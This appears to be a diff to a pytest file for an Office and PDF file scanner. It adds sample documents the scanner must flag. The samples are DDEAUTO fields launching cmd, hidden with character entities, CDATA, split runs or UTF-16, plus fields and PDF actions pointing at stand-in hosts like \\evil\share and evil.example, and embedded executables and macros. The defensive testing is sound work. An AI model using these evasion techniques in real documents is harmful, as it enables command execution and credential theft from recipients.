@@ -485,9 +485,20 @@ def related(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") 
     return office("docx", {part: relations((kind, target, True))})
 
 
-def field(*codes: str) -> bytes:
+def field(*codes: str, part: str = "word/header1.xml", encoding: str = "utf-8") -> bytes:
+    """A Word file with one field, whose instruction is split into runs."""
     runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{code}</w:instrText></w:r>" for code in codes)
-    return office("docx", {"word/header1.xml": f"<w:hdr xmlns:w='w'><w:p>{runs}</w:p></w:hdr>"})
+    begin = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
+    return office("docx", {part: f"<w:hdr xmlns:w='w'><w:p>{begin}{runs}</w:p></w:hdr>".encode(encoding)})
+
+
+def two_fields(first: str, second: str) -> bytes:
+    begin = "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>"
+    return field(first + begin + second)
+
+
+def simple_field(code: str) -> bytes:
+    return office("docx", {"word/document.xml": f"<w:p xmlns:w='w'><w:fldSimple w:instr='{code}'/></w:p>"})
 
 
 @pytest.mark.parametrize(
@@ -502,11 +513,25 @@ def field(*codes: str) -> bytes:
         (office("xlsx", {"xl/_rels/x.RELS": PREFIXED}), "outside"),
         (field(" DDEAUTO c:\\Windows\\cmd.exe "), "dde"),
         (field(" DD", "E excel a b "), "dde"),
+        (field(" D&#68;&#x45;AUTO cmd "), "dde"),
+        (field("<![CDATA[DDEAUTO cmd]]>"), "dde"),
+        (two_fields("PAGE", "DDEAUTO cmd"), "dde"),
+        (simple_field("&#68;DE cmd"), "dde"),
+        (field(" DDEAUTO cmd ", part="word/kepala.bin"), "dde"),
+        (field(" DDEAUTO cmd ", encoding="utf-16-le"), "dde"),
+        (field(r' INCLUDEPICTURE "\\\\evil\\share\\a.png" \* MERGEFORMAT '), "outside"),
+        (field(' INCLUDE', 'TEXT "https://evil.example/a.docx" '), "outside"),
+        (simple_field('LINK Excel.Sheet.12 "file://evil/share/a.xlsx" A1'), "outside"),
+        (field(r' HYPERLINK "\\\\evil\\share" '), "outside"),
         (office("xlsx", {"xl/externalLinks/externalLink1.xml": "<x:ddeLink xmlns:x='x' ddeService='cmd'/>"}), "dde"),
         (office("docx", {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='a'/>"}), "embedded"),
         (office("docx", {"word/_rels/document.xml.rels": relations(("control", "x.xml", False))}), "embedded"),
         (office("docx", {"word/embeddings/a.bin": b"\1\0" + "\1Ole10Native".encode("utf-16-le") + b"MZ"}), "embedded"),
         (office("docx", {"word/embeddings/a.bin": b"MZ" + bytes(99)}), "embedded"),
+        (office("docx", {"word/Embeddings/a.bin": b"MZ" + bytes(99)}), "embedded"),
+        (office("docx", {"word/media/a.png": b"\1\0" + "\1Ole10Native".encode("utf-16-le") + b"MZ"}), "embedded"),
+        (office("docx", {"word/embeddings/a.docm": office("docx", {"word/vbaProject.bin": b"x"})}), "macro"),
+        (office("docx", {"word/_rels/document.xml.rels": relations(("aFChunk", "a.html", False))}), "embedded"),
     ],
 )  # fmt: skip
 def test_what_an_office_file_reaches_for_is_named(sent: bytes, why: str) -> None:
@@ -522,6 +547,9 @@ def test_what_an_office_file_reaches_for_is_named(sent: bytes, why: str) -> None
         related("hyperlink", "mailto:ani@example.go.id"),
         related("hyperlink", "file:///C:/data/Tabel.xlsx"),
         field(" PAGE ", " HYPERLINK https://bps.go.id ", " DATE \\@ dd "),
+        field(r' HYPERLINK "https://bps.go.id" \l "_Toc1" \* MERGEFORMAT '),
+        field(r' LINK Excel.Sheet.12 "D:\\data\\Tabel.xlsx" A1 \f 0 '),
+        field(' ADDIN ZOTERO {"uri": "https://zotero.org/1", "title": "DDE dan //contoh"} '),
         office("docx", {"word/comments.xml": "<w:t>DDE adalah singkatan</w:t>"}),
     ],
 )
@@ -537,10 +565,22 @@ def test_what_an_office_has_on_its_own_computer_is_taken(sent: bytes) -> None:
         Dictionary(S=Name.GoToR, F=String("//evil/share/a.pdf")),
         Dictionary(S=Name.URI, URI=String("file://evil/share/a.pdf")),
         Dictionary(S=Name.URI, URI=String("\\\\evil\\share")),
+        Dictionary(S=Name.Thread, F=String("\\\\evil\\share\\a.pdf")),
+        Dictionary(S=Name.Rendition, C=Dictionary(Type=Name.Filespec, UF=String("file://evil/share/a.mp4"))),
+        Dictionary(Base=String("//evil/share/")),
     ],
 )
 def test_a_pdf_that_reaches_outside_says_so(action: Dictionary) -> None:
     assert reason(pdf(lambda document: document.Root.__setattr__("OpenAction", action))) == "outside_pdf"
+
+
+def test_a_pdf_whose_content_is_in_another_file_is_refused() -> None:
+    def point_elsewhere(document: Pdf) -> None:
+        elsewhere = document.make_stream(b"")
+        elsewhere.F = String("https://evil.example/a")
+        document.pages[0].Contents = elsewhere
+
+    assert reason(pdf(point_elsewhere)) == "outside_pdf"
 
 
 def test_an_empty_tree_of_scripts_is_no_script() -> None:
